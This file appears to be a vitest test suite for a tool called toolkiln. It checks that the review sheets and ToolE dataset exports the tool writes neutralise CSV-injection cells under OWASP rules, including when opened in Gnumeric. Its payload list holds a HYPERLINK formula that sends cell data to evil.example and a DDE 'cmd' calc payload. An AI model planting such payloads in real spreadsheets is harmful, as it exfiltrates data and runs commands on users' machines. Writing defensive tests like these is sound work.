import { spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { parseCsvRecords } from '../core/csv.ts';
import type { Sample } from '../core/records.ts';
import { samplesInMemory } from '../core/sample-source.ts';
import { readCsv, toCsv } from '../review/csv.ts';
import { exportToolE } from '../stages/toole/export.ts';
import { SINGLE_TOOL_SPLIT } from '../stages/toole/records.ts';
import { reviewSamples } from './fixtures/review/dataset.ts';
import { tempDirs } from './helpers/files.ts';
import { TOOLE_FIXTURE_CONFIG } from './helpers/toole-fixture.ts';
import { toolkilnProcess } from './helpers/toolkiln-process.ts';

const tmp = tempDirs('tk-csv-injection-');

const HYPERLINK = '=HYPERLINK("http://evil.example/"&A1,"click")';

/**
 * Cells an attacker may plant, by OWASP's CSV-injection rules: a leading =, +, -, @, tab or CR, the
 * same after leading white space or quote characters, payloads that carry the field separator and
 * quotes, and cells that look like the escape itself.
 */
const PAYLOADS = [
  '=1+1',
  HYPERLINK,
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '-5',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '   +SUM(1,1)',
  '\n=1+1',
  '"=1+1"',
  '"@SUM(1,1)',
  ' "=1+1',
  "'=1+1",
  "''=1+1",
  "''",
  "'",
  "'plain",
  '=1+2";=1+2',
  "=1+2'\" ;,=1+2",
  'a,=1+1',
  'plain text, with a comma',
  '',
];

/** OWASP's rule, written out here on its own: what a spreadsheet may run as a formula. */
function spreadsheetMayRun(cell: string): boolean {
  const afterLead = cell.replace(/^[\s'"]+/, '');
  return /^[=+\-@\t\r]/.test(cell) || /^[=+\-@]/.test(afterLead) || /^[\s'"]*[\t\r]/.test(cell);
}

/** The cells of a CSV file exactly as a spreadsheet receives them (no escape undone). */
function rawCells(text: string): string[][] {
  return parse(text, { bom: true, relax_column_count: true });
}

describe('every CSV toolkiln writes follows the OWASP CSV-injection rules', () => {
  it('review sheets: a cell a spreadsheet could run starts with a quoted-in leading \', and reads back exactly', () => {
    const rows = PAYLOADS.map((cell, i) => ({ id: String(i), text: cell }));
    const text = toCsv(['id', 'text'], rows);
    const written = rawCells(text).slice(1).map((r) => r[1]);
    written.forEach((cell, i) => {
      // The cell as written is either harmless, or starts with the ' a spreadsheet takes as "text".
      if (spreadsheetMayRun(PAYLOADS[i])) expect(cell, JSON.stringify(PAYLOADS[i])).toBe(`'${PAYLOADS[i]}`);
      expect(cell.startsWith("'") || !spreadsheetMayRun(cell), JSON.stringify(cell)).toBe(true);
    });
    // OWASP: such a cell is also wrapped in double quotes.
    expect(text).toContain(`"'${HYPERLINK.replaceAll('"', '""')}"`);
    expect(text).toContain(`"' =1+1"`);
    const path = join(tmp(), 'sheet.csv');
    writeFileSync(path, text);
    expect(readCsv(path).records.map((r) => r.cells.text)).toEqual(PAYLOADS);
  });

  it("ToolE's native all_clean_data.csv: the same rule, and toolkiln's readers of it get the text back", async () => {
    const out = tmp();
    const samples: Sample[] = PAYLOADS.filter(Boolean).map((query, i) => ({ ...reviewSamples()[0], id: `q-${i}`, split: SINGLE_TOOL_SPLIT, dialogue: [{ role: 'user', content: query }], expected: { labels: [i % 2 ? '+tool' : 'plain_tool'] } }));
    await exportToolE(samplesInMemory(samples), [], out);
    const text = readFileSync(join(out, 'dataset', 'data', 'all_clean_data.csv'), 'utf8');
    for (const [query, tool] of rawCells(text).slice(1)) {
      for (const cell of [query, tool]) expect(cell.startsWith("'") || !spreadsheetMayRun(cell), JSON.stringify(cell)).toBe(true);
    }
    expect(text.split('\n')[1]).toBe(`"'=1+1",plain_tool`);
    expect(parseCsvRecords(text)).toEqual(samples.map((s) => ({ Query: s.dialogue[0].content, Tool: s.expected.labels![0] })));
  });
});

// ---------------------------------------------------------------- in a real spreadsheet engine

const ssconvert = spawnSync('ssconvert', ['--version'], { encoding: 'utf8' }).status === 0;

interface SheetCell {
  row: number;
  col: number;
  /** Gnumeric's value type (60 text, 40 number, …); absent for a formula. */
  valueType: string | null;
  content: string;
}

/** Opens `csv` in Gnumeric (ssconvert) and returns every cell of the sheet it made. */
function openInGnumeric(csv: string): SheetCell[] {
  const out = `${csv}.gnumeric`;
  const run = spawnSync('ssconvert', ['--import-type=Gnumeric_stf:stf_csvtab', '--export-type=Gnumeric_XmlIO:sax', csv, out], { encoding: 'utf8' });
  expect(run.status, run.stderr).toBe(0);
  const xml = gunzipSync(readFileSync(out)).toString('utf8');
  const unescape = (s: string) => s.replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&#(\d+);/g, (_, n) => String.fromCharCode(Number(n))).replace(/&amp;/g, '&');
  const cells = [...xml.matchAll(/<gnm:Cell ([^>]*?)(?:\/>|>([^<]*)<\/gnm:Cell>)/g)].map((m) => ({
    row: Number(/Row="(\d+)"/.exec(m[1])![1]),
    col: Number(/Col="(\d+)"/.exec(m[1])![1]),
    valueType: /ValueType="(\d+)"/.exec(m[1])?.[1] ?? null,
    content: unescape(m[2] ?? ''),
  }));
  expect(cells.length).toBeGreaterThan(0);
  return cells;
}

const formulas = (cells: SheetCell[]) => cells.filter((c) => c.valueType === null);

describe.skipIf(!ssconvert)('CSV files opened in Gnumeric evaluate no cell (skipped without gnumeric\'s ssconvert)', () => {
  it("the cells of the review sheet writer and of ToolE's export are all text, shown as the cell was before writing", async () => {
    const dir = tmp();
    // The engine does run an unneutralised formula, quoted or not: the check can fail.
    writeFileSync(join(dir, 'raw.csv'), `Query,Tool\n"=1+1",a\n"${HYPERLINK.replaceAll('"', '""')}",b\n`);
    expect(formulas(openInGnumeric(join(dir, 'raw.csv'))).map((c) => c.content)).toEqual(['=1+1', HYPERLINK.replace('HYPERLINK', 'hyperlink')]);

    writeFileSync(join(dir, 'sheet.csv'), toCsv(['text'], PAYLOADS.map((text) => ({ text }))));
    const samples: Sample[] = PAYLOADS.filter(Boolean).map((query, i) => ({ ...reviewSamples()[0], id: `q-${i}`, split: SINGLE_TOOL_SPLIT, dialogue: [{ role: 'user', content: query }], expected: { labels: ['tool'] } }));
    await exportToolE(samplesInMemory(samples), [], join(dir, 'toole'));
    for (const csv of [join(dir, 'sheet.csv'), join(dir, 'toole', 'dataset', 'data', 'all_clean_data.csv')]) {
      const cells = openInGnumeric(csv);
      expect(formulas(cells), csv).toEqual([]);
      // Gnumeric takes the leading ' as "text" and hides it: a neutralised formula shows as the text it was.
      expect(cells.map((c) => c.content)).toEqual(expect.arrayContaining(['=1+1', HYPERLINK, '+1+1', '@SUM(1,1)', '-5']));
    }
  });

  it('a review edit typed as \'=HYPERLINK(…) reaches ToolE\'s all_clean_data.csv as text (real CLI processes)', () => {
    const home = tmp();
    const cli = (...args: string[]) => {
      const run = toolkilnProcess(home, args);
      expect(run.code, `${args.join(' ')}: ${run.err}`).toBe(0);
      return run.out;
    };
    writeFileSync(join(home, 'toole.json'), JSON.stringify(TOOLE_FIXTURE_CONFIG));
    cli('run', 'toole', '--config', 'toole.json', '--quiet');
    cli('review', 'export', 'toole@v1', '--format', 'csv', '--rate', '1', '--out', 'sheets');

    // The reviewer writes the escape docs/review.md documents before text that must start with "=".
    const sheet = readCsv(join(home, 'sheets', 'toole-v1-review.csv'));
    const direct = sheet.records.filter((r) => r.cells.category === 'toole/direct');
    const edits = new Map([
      [direct[0].cells.item_id, `'${HYPERLINK}`],
      [direct[1].cells.item_id, "'=1+1"],
    ]);
    const filled: Record<string, string>[] = sheet.records.map((r) => ({ ...r.cells, ...(edits.has(r.cells.item_id) ? { decision: 'edit', corrected_query: edits.get(r.cells.item_id)!, annotator: 'mallory' } : {}) }));
    mkdirSync(join(home, 'filled'));
    // Saved as a spreadsheet saves it: the ' kept as typed, no quotes added.
    writeFileSync(join(home, 'filled', 'sheet.csv'), `${sheet.header.join(',')}\n${filled.map((row) => sheet.header.map((h) => (/[",\r\n]/.test(row[h] ?? '') ? `"${row[h].replaceAll('"', '""')}"` : (row[h] ?? ''))).join(',')).join('\n')}\n`);
    cli('review', 'import', 'toole@v1', 'filled/sheet.csv');
    cli('export', 'toole@v2', '--format', 'toole', '--out', 'native');

    const csv = join(home, 'native', 'dataset', 'data', 'all_clean_data.csv');
    const rows = parseCsvRecords(readFileSync(csv));
    expect(rows.map((r) => r.Query)).toEqual(expect.arrayContaining([HYPERLINK, '=1+1'])); // read back exactly
    const cells = openInGnumeric(csv);
    expect(formulas(cells)).toEqual([]);
    expect(cells.map((c) => c.content)).toEqual(expect.arrayContaining([HYPERLINK, '=1+1']));
  }, 120_000);
});
